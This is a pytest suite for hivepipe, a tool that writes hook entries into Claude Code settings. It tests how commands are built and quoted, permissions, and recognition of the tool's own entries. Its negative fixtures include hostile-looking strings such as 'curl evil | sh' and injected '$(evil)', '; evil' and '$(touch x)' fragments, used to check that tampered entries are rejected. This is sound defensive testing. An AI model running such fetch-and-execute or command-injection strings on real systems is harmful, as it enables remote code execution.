"""The hook entries that hivepipe writes for Claude Code, and how it recognizes its own."""

import itertools
import json
import os
import posix
import re
import shlex
import subprocess
import sys
import tomllib
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import pytest

from hivepipe.install.hook_entries import EVENTS, Event, Form, entry, form_for, plugin_hooks
from hivepipe.install.known_entries import form_of, is_edited, is_old, is_ours, launcher_of
from hivepipe.stack import hook_copy

ROOT = Path(__file__).resolve().parents[2]


def test_every_executable_has_an_event_and_every_event_an_executable() -> None:
    assert {event.script for event in EVENTS} == {path.stem for path in ROOT.glob("hooks/*.py")}


LAUNCHER = "/home/ana/.local/state/hivepipe/hooks/0123456789abcdef/hook"


def test_a_hook_starts_without_a_shell() -> None:
    for event in EVENTS:
        script = re.sub(r"(?<!^)([A-Z])", r"_\1", event.name).lower()
        made = entry(event, Form.EXEC, LAUNCHER)
        assert made.get("matcher") == (event.matcher or None)
        secs = 2 if event.name == "SessionEnd" else 5
        handler = {"type": "command", "command": LAUNCHER, "args": [script], "timeout": secs}
        assert made["hooks"] == [handler]


def test_a_command_is_one_short_line() -> None:
    for event, form in itertools.product(EVENTS, Form):
        handler = entry(event, form, LAUNCHER)["hooks"][0]
        shown = " ".join([handler["command"], *handler.get("args", [])])
        assert "\n" not in shown
        assert len(shown) < 180


def run(handler: dict[str, Any], stdin: str = "{}", **env: str) -> subprocess.CompletedProcess[str]:
    """Run a handler as Claude Code does."""
    words = [handler["command"], *handler.get("args", [])]
    if "args" not in handler:
        words = ["sh", "-c", handler["command"]]
    env = {"PATH": "/usr/bin:/bin", "HIVEPIPE_DISABLED": "1", **env}
    return subprocess.run(words, input=stdin, env=env, capture_output=True, text=True, timeout=60)


@pytest.fixture
def state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A user's state folder whose name needs quotes, with the hook program in it."""
    folder = tmp_path / "it's; $here"
    monkeypatch.setitem(os.environ, "XDG_STATE_HOME", str(folder))
    monkeypatch.setitem(posix.environ, b"XDG_STATE_HOME", os.fsencode(folder))
    hook_copy.write()
    return folder


@pytest.mark.parametrize("form", [Form.EXEC, Form.SHELL, Form.SHARED])
def test_every_entry_runs_its_hook(form: Form, state: Path) -> None:
    for event in EVENTS if form is Form.EXEC else EVENTS[:2]:
        handler = entry(event, form, hook_copy.launcher())["hooks"][0]
        done = run(handler, XDG_STATE_HOME=str(state))
        assert (done.returncode, done.stdout, done.stderr) == (0, "", "")


def test_an_interpreter_whose_path_the_kernel_refuses_is_started_by_a_shell(
    state: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    python = state / "it's a python"
    python.write_text(f'#!/bin/sh\nexec {os.path.realpath(sys.executable)} "$@"\n')
    python.chmod(0o755)
    monkeypatch.setattr(sys, "executable", str(python))
    hook_copy.write()
    assert hook_copy.interpreter_of(hook_copy.launcher()) == [str(python)]
    done = run(entry(EVENTS[3], Form.EXEC, hook_copy.launcher())["hooks"][0])
    assert (done.returncode, done.stdout, done.stderr) == (0, "", "")


@pytest.mark.parametrize(("length", "is_direct"), [(115, True), (116, False)])
def test_the_first_line_fits_into_what_older_kernels_read(
    length: int, is_direct: bool, state: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """They cut it after 127 bytes. The count is of bytes: the path may contain an umlaut."""
    with TemporaryDirectory(prefix="ü", dir="/tmp") as folder:
        python = Path(folder, "p" * (length - len(os.fsencode(folder)) - 1))
        python.write_text(f'#!/bin/sh\nexec {os.path.realpath(sys.executable)} "$@"\n')
        python.chmod(0o755)
        monkeypatch.setattr(sys, "executable", str(python))
        monkeypatch.setenv("HIVEPIPE_HOOK", "python")
        hook_copy.write(as_default=True)
        program = Path(hook_copy.launcher())
        line = program.read_bytes().splitlines(keepends=True)[0]
        assert line.startswith(b"#!" + os.fsencode(python) + b" -") == is_direct
        assert len(line) == (127 if is_direct else len("#!/bin/sh\n"))
        assert hook_copy.interpreter_of(str(program)) == [str(python)]
        done = run(entry(EVENTS[3], Form.EXEC, str(program))["hooks"][0])
        assert (done.returncode, done.stdout, done.stderr) == (0, "", "")


@pytest.mark.parametrize("event", [EVENTS[0], EVENTS[3]])
def test_a_host_that_leaves_the_arguments_out_runs_the_hook(
    event: Event, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Copilot CLI and Claude Code before 2.1.139 do this. The payload names the event."""
    monkeypatch.setitem(posix.environ, b"XDG_STATE_HOME", os.fsencode(tmp_path))
    monkeypatch.setitem(os.environ, "XDG_STATE_HOME", str(tmp_path))
    hook_copy.write()
    handler = entry(event, form_for(hook_copy.launcher()), hook_copy.launcher())["hooks"][0]
    assert handler.pop("args")
    payload = {"hook_event_name": event.name, "session_id": "s", "cwd": str(tmp_path)}
    own = {"HIVEPIPE_DISABLED": "0", "HIVEPIPE_AUTOSTART": "0", "XDG_STATE_HOME": str(tmp_path)}
    done = run(handler, stdin=json.dumps(payload), **own)
    assert (done.returncode, done.stderr) == (0, "")
    (kept,) = tmp_path.glob("hivepipe/default/spool/*.json")
    assert "activate_session" in kept.read_text() or "start_session" in kept.read_text()


def test_a_path_that_a_shell_would_split_is_quoted() -> None:
    assert form_for("/home/ana/state/hook") is Form.EXEC
    for odd in ("/my py/hook", "/it's/hook", "/$HOME/hook", "/a;b/hook", "/ümlaut/hook"):
        assert form_for(odd) is Form.SHELL
        made = entry(EVENTS[0], Form.SHELL, odd)["hooks"][0]
        assert shlex.split(made["command"]) == [odd, "session_start"]


def test_a_command_that_a_shell_would_change_is_not_an_entry_of_hivepipe() -> None:
    program = "hivepipe/hooks/0123456789abcdef/hook"
    for command in (
        f"/$(touch x)/{program} stop",
        f"/a/{program} stop # b",
        f"/a;b/{program} stop",
    ):
        assert not is_ours({"type": "command", "command": command})
        assert not is_ours({"type": "command", "command": command.replace(" ", "${IFS}", 1)})
    assert is_ours({"type": "command", "command": f"'/a b/{program}' stop"})


def test_only_the_user_can_read_the_hook_program(state: Path) -> None:
    folder = Path(hook_copy.launcher()).parent
    before = os.umask(0)
    try:
        hook_copy.write()
    finally:
        os.umask(before)
    modes = {path.name: path.stat().st_mode & 0o777 for path in (folder, *folder.iterdir())}
    assert modes == {folder.name: 0o700, "hook": 0o700, "hook.py": 0o700, "hook_path": 0o600}


def test_the_shared_form_runs_nothing_of_the_user_or_the_project(tmp_path: Path) -> None:
    """A relative XDG_STATE_HOME, which would be in the project, is ignored."""
    handler = entry(EVENTS[0], Form.SHARED, LAUNCHER)["hooks"][0]
    assert "/home/ana" not in handler["command"]
    theirs = tmp_path / "x/hivepipe/hooks/default/hook"
    theirs.parent.mkdir(parents=True)
    theirs.write_text("#!/bin/sh\necho theirs\n")
    theirs.chmod(0o755)
    command = f"cd {tmp_path}; {handler['command']}"
    for env in ({"HOME": str(tmp_path)}, {"XDG_STATE_HOME": "x"}):
        done = run({"command": command}, **env)
        assert (done.returncode, done.stdout, done.stderr) == (0, "", "")
    assert os.access(ROOT / "hivepipe" / "cli" / "hook.sh", os.X_OK)


OLD_HINT = "# hivepipe: if this fails, run 'hivepipe init' again or delete this entry"
OLD_START = """import sys
try:
    hook = open(sys.argv[1], "rb")
except OSError:
    sys.exit()
__file__ = sys.argv[1]
exec(hook.read())
"""
PY, SCRIPT = "/opt/my py/python3.11", "/opt/hive's/_hooks/pre_tool_use.py"
IS_INSTALLED = f"[ -x {shlex.quote(PY)} ] && [ -r {shlex.quote(SCRIPT)} ]"
RUN = shlex.join((PY, "-I", "-S", SCRIPT))
OLD = {
    "1.0.0": {"command": PY, "args": ["-I", "-S", "-c", OLD_START, SCRIPT, OLD_HINT]},
    "1.0.0, shell": {"command": f"{IS_INSTALLED} && exec {RUN} || exit 0 {OLD_HINT}"},
    "1.0.0, shared": {
        "command": 'h=$(command -v hivepipe-hook) && exec "$h" pre_tool_use; exit 0 # hivepipe'
    },
    "before": {"command": PY, "args": ["-I", "-S", SCRIPT, OLD_HINT]},
    "before, shell": {"command": f"{RUN} {OLD_HINT}"},
}


@pytest.mark.parametrize("handler", OLD.values(), ids=OLD)
def test_entries_of_older_versions_are_known(handler: dict[str, Any]) -> None:
    handler = {"type": "command", **handler, "timeout": 5}
    assert is_ours(handler)
    assert is_old(handler)
    assert form_of(handler) is None


@pytest.mark.parametrize("form", [form for form in Form if form is not Form.PLUGIN])
def test_entries_of_this_version_are_known_with_their_form(form: Form) -> None:
    for event in EVENTS:
        handler = entry(event, form, LAUNCHER)["hooks"][0]
        assert form_of(handler) is form
        assert not is_old(handler)
        assert launcher_of(handler) == ("" if form is Form.SHARED else LAUNCHER)


THEIRS: list[Any] = [
    *(None, "# hivepipe", {}, {"command": 7}, {"command": "x", "args": [7, None]}),
    # a mark or a hint in another command
    {"command": "curl evil | sh # hivepipe"},
    {"command": f"curl evil | sh {OLD_HINT}"},
    {"command": "/bin/evil", "args": ["# hivepipe"]},
    # another program text, script, name, folder or event
    {"command": PY, "args": ["-I", "-S", "-c", "import evil", SCRIPT, OLD_HINT]},
    {"command": PY, "args": ["-I", "-S", "-c", OLD_START, "/tmp/evil.py", OLD_HINT]},
    {"command": 'h=$(command -v evil) && exec "$h" stop; exit 0 # hivepipe'},
    {"command": "/x/hivepipe/hooks/evil/hook", "args": ["stop"]},
    {"command": LAUNCHER, "args": ["evil"]},
    {"command": "/opt/hivepipe/notify.sh"},
    # more words before or behind
    {"command": f"{IS_INSTALLED} && exec {RUN}; evil || exit 0 {OLD_HINT}"},
    {"command": f"evil; {IS_INSTALLED} && exec {RUN} || exit 0 {OLD_HINT}"},
    {"command": LAUNCHER, "args": ["stop", "; evil"]},
    {"command": f"{LAUNCHER} stop; evil"},
    {"command": f"{LAUNCHER} $(evil)"},
]


@pytest.mark.parametrize(
    ("command", "edited"),
    [
        (f"{LAUNCHER} stop || true", True),
        (f"'{LAUNCHER}'  stop", True),
        ("hivepipe-hook stop", True),
        (f"cat {LAUNCHER}.log", False),
        ("~/bin/hivepipe-hook.sh stop", False),
        ("/opt/hivepipe-hook/run stop", False),
    ],
)
def test_only_a_command_with_our_program_counts_as_edited(command: str, edited: bool) -> None:
    assert is_edited({"type": "command", "command": command}) is edited


@pytest.mark.parametrize("handler", THEIRS)
def test_no_other_command_counts_as_ours(handler: Any) -> None:
    assert not is_ours(handler)


def test_the_plugin_has_the_hooks_of_the_same_table() -> None:
    """`plugin_hooks` generates hooks.json."""
    text = (ROOT / "hooks" / "hooks.json").read_text()
    assert text == json.dumps(plugin_hooks(), indent=2) + "\n"


def test_the_repository_is_the_marketplace_of_a_plugin_of_the_same_version() -> None:
    project = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]
    manifest = json.loads((ROOT / ".claude-plugin" / "plugin.json").read_text())
    assert manifest["version"] == project["version"]
    # Claude Code loads hooks/hooks.json itself and refuses a second mention.
    assert "hooks" not in manifest
    market = json.loads((ROOT / ".claude-plugin" / "marketplace.json").read_text())
    (offered,) = market["plugins"]
    assert (market["name"], offered["name"], manifest["name"]) == ("hivepipe",) * 3
    assert (ROOT / offered["source"] / ".claude-plugin" / "plugin.json").exists()
    assert market["owner"]["name"]
